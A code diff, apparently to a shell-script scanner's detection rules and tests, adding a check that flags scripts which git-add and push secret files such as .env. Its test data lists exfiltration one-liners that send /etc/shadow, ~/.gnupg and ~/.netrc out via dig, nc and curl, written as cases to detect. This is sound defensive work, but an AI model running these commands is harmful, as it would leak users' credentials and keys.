@@ -25,6 +25,7 @@ MATCHES = (
     "dig $(cat /etc/shadow | base64).h.io",
     "tar czf - ~/.gnupg | nc h 1",
     'f=$(cat ~/.netrc); curl -d "$f" http://h',
+    "git add .env && git commit -m x && git push",
 )
 IGNORES = (
     "cat notes | mail a@b",
@@ -36,6 +37,7 @@ IGNORES = (
     "history | grep curl",
     "git log | mail a@b",
     "scp -i ~/.ssh/key.pem a h:",
+    "git add .env.example && git commit -m x && git push",
 )
 _DUMPS = names(
     """
@@ -59,6 +61,11 @@ def inspect(script: Script) -> Iterator[Finding]:
         if assignment.value is not None
         and any(_is_source(node) for inner in assignment.value.substitutions for node in inner.nodes())
     }
+    git = [command for command in script.commands() if command.program == "git"]
+    added = [word for command in git if "add" in command.shapes[:1] for word in command.operands[1:]]
+    pushed = any("push" in command.shapes[:1] for command in git)
+    if pushed and any(is_secret(word.shape) and not word.shape.endswith(".example") for word in added):
+        yield danger(Reason.CREDENTIAL_EXPOSURE, message, *added)
     for item in script.items:
         has_source = False
         for node in item.commands:
